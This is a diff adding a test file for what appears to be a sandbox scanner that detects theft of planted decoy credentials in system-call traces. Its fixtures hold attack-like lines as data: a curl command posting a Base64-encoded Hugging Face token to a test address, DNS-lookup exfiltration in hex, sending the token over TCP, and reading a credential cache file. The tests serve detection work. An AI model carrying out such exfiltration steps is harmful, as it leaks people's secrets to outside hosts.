@@ -1,0 +1,131 @@
+import { describe, expect, it } from 'vitest';
+import { DecoyWatch } from '../../src/behavior/theft.js';
+import { CONTEXT, SECRET, rulesOf, run } from './support.js';
+
+const [decoy] = CONTEXT.decoys;
+const base64 = (text: string): string => Buffer.from(text).toString('base64');
+const hex = (text: string): string => Buffer.from(text).toString('hex');
+
+function found(text: string): string[] {
+  return new DecoyWatch(CONTEXT.decoys).theftIn(text).map((theft) => `${theft.decoy.name} ${theft.encoding}`);
+}
+
+describe('the value of a decoy is found', () => {
+  it.each([
+    ['as it is', SECRET],
+    ['in the middle of others', `POST / HTTP/1.1\r\n\r\n{"token": "${SECRET}"}`],
+    ['in capitals', SECRET.toUpperCase()],
+    ['cut at both ends', SECRET.slice(4, -1)],
+  ])('%s', (_, text) => {
+    expect(found(text)).toEqual(['a Hugging Face token as it is']);
+  });
+
+  it.each([
+    ['at its beginning', base64(SECRET)],
+    ['one byte in', base64(`x${SECRET}`)],
+    ['two bytes in', base64(`xy${SECRET} and more`)],
+    ['broken into lines', base64(`a long line before it: ${SECRET}`).replace(/.{11}/g, '$&\n')],
+    ['in the alphabet for URLs', Buffer.from(`>>>???${SECRET}`).toString('base64url')],
+  ])('in Base64, %s', (_, text) => {
+    expect(found(text)).toEqual(['a Hugging Face token in Base64']);
+  });
+
+  it.each([
+    ['small', hex(SECRET)],
+    ['capital', hex(SECRET).toUpperCase()],
+    ['between colons', hex(SECRET).replace(/../g, '$&:')],
+  ])('in hexadecimal digits, %s', (_, text) => {
+    expect(found(text)).toEqual(['a Hugging Face token in hexadecimal digits']);
+  });
+
+  it('in messages of eight characters, and told once', () => {
+    const watch = new DecoyWatch(CONTEXT.decoys);
+    const parts = hex(SECRET + SECRET).match(/.{1,8}/g) ?? [];
+    expect(parts.flatMap((part) => watch.theftInStream('x', part))).toEqual([
+      { decoy, encoding: 'in hexadecimal digits' },
+    ]);
+  });
+});
+
+describe('what is no proof', () => {
+  it.each([
+    ['another token of the same kind', 'hf_aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0zAbC'],
+    ['the first fifteen characters of it', SECRET.slice(0, 15)],
+    ['its name', '/home/model/.cache/huggingface/token'],
+    ['nothing', ''],
+    ['zeros', '\0'.repeat(100_000)],
+  ])('%s', (_, text) => {
+    expect(found(text)).toEqual([]);
+  });
+
+  it('its two halves, sent to different places', () => {
+    const watch = new DecoyWatch(CONTEXT.decoys);
+    expect(watch.theftInStream('one', SECRET.slice(0, 10))).toEqual([]);
+    expect(watch.theftInStream('other', SECRET.slice(10, 20))).toEqual([]);
+  });
+});
+
+describe('proof of theft says what, where it went and how', () => {
+  const explained = (lines: readonly string[]): string | undefined =>
+    run(lines).findings.find(({ rule }) => rule === 'DYN-THEFT-PROOF')?.explanation;
+
+  it('in a message', () => {
+    expect(
+      explained([
+        '100 connect(3<TCP:[9]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("203.0.113.7")}, 16) = 0',
+        `100 sendto(3<TCP:[9]>, "${SECRET}", 37, 0, NULL, 0) = 37`,
+      ]),
+    ).toContain(
+      'PID 100 takes a Hugging Face token (/home/model/.cache/huggingface/token), a decoy of this scan, and sends it to 203.0.113.7 port 443, as it is.',
+    );
+  });
+
+  it('in a name that is looked up, spread over several', () => {
+    const ask = (label: string): string => {
+      const octal = (length: number): string => `\\${length.toString(8).padStart(3, '0')}`;
+      return `100 sendto(3<UDP:[127.0.0.1:4000->127.0.0.1:53]>, "\\22\\64\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0${octal(label.length)}${label}\\007example\\003com\\0\\0\\1\\0\\1", ${30 + label.length}, MSG_NOSIGNAL, NULL, 0) = 50`;
+    };
+    const [one = '', two = ''] = hex(SECRET).match(/.{1,12}/g) ?? [];
+    expect(explained([ask(one), ask(two)])).toContain(`asks for the name ${two}.example.com with it inside, in hexa`);
+    expect(explained([ask(one)])).toBeUndefined();
+  });
+
+  it('in the arguments of a program', () => {
+    const text = explained([
+      '100 vfork() = 101',
+      `101 execve("/usr/bin/curl", ["curl", "-d", "${base64(SECRET)}", "http://192.0.2.9/"], 0x7ffc0000 /* 9 vars */) = -1 ENOENT (No such file or directory)`,
+    ]);
+    expect(text).toMatch(/PID 101 takes .*hands it to a program: curl -d .* http:\/\/192\.0\.2\.9\/, in Base64\./);
+  });
+
+  it('in a file', () => {
+    expect(explained([`100 pwrite64(5</tmp/loot>, "${hex(SECRET)}", 74, 0) = 74`])).toContain(
+      'writes it to /tmp/loot, in hexadecimal digits.',
+    );
+  });
+
+  it('and is not made by printing, or by a pipe to a child', () => {
+    expect(rulesOf(run([`100 write(1<pipe:[9]>, "${SECRET}", 37) = 37`]))).toEqual([]);
+  });
+});
+
+describe('touching a decoy', () => {
+  const open = (result: string): string | undefined =>
+    run([`100 openat(AT_FDCWD</tmp>, "/home/model/.cache/huggingface/token", O_RDONLY|O_CLOEXEC) = ${result}`])
+      .findings[0]?.explanation;
+
+  it('names what a thief would have had', () => {
+    expect(open('5</home/model/.cache/huggingface/token>')).toContain(
+      'It worked. What it got is a decoy of this scan: a Hugging Face token.',
+    );
+  });
+
+  it('is told from looking for what is not there', () => {
+    expect(open('-1 EACCES (Permission denied)')).not.toContain('decoy');
+  });
+
+  it('counts when it only asks whether it is there', () => {
+    const { findings } = run(['100 access("/home/model/.cache/huggingface/token", R_OK) = 0']);
+    expect(findings[0]?.explanation).toContain('It is there: a decoy of this scan, a Hugging Face token.');
+  });
+});
